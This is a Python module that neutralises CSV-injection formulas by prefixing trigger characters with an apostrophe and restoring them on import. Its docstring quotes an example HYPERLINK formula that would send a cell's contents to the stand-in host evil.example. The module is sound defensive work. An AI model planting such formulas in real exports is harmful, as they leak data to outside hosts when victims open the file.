"""Text cells that a spreadsheet would run as formulas, made inert (CSV injection).

A card's text such as ``=HYPERLINK("http://evil.example/?"&A1, "Click")`` or ``@SUM(1+1)``
written as-is to a CSV becomes a live formula when a client opens the file in Excel or
LibreOffice. As OWASP advises, a cell beginning with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return is written with an apostrophe in front, which spreadsheets take to mean "text"
(plain numbers such as ``-2`` are left as they are: they are no formulas). Reading a table back
removes that one apostrophe, so export and import round-trip exactly. XLSX needs none of this:
its cells are typed, and the exporter stores such text as a string, never a formula.
"""

from __future__ import annotations

import math

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _formula_like(text: str) -> bool:
    if not text.startswith(TRIGGERS):
        return False
    try:
        return not math.isfinite(float(text))  # -2, +1.5, -1e3: numbers, not formulas
    except ValueError:
        return True


def guard(cell: str) -> str:
    """``cell`` as a CSV/TSV cell a spreadsheet shows as text. A cell that already starts with
    apostrophes before a trigger gets one more, so that ``unguard`` restores it exactly."""
    return "'" + cell if _formula_like(cell.lstrip("'")) else cell


def unguard(cell: str) -> str:
    """The text ``guard`` was given (a cell without its guarding apostrophe)."""
    return cell[1:] if cell.startswith("'") and _formula_like(cell.lstrip("'")) else cell
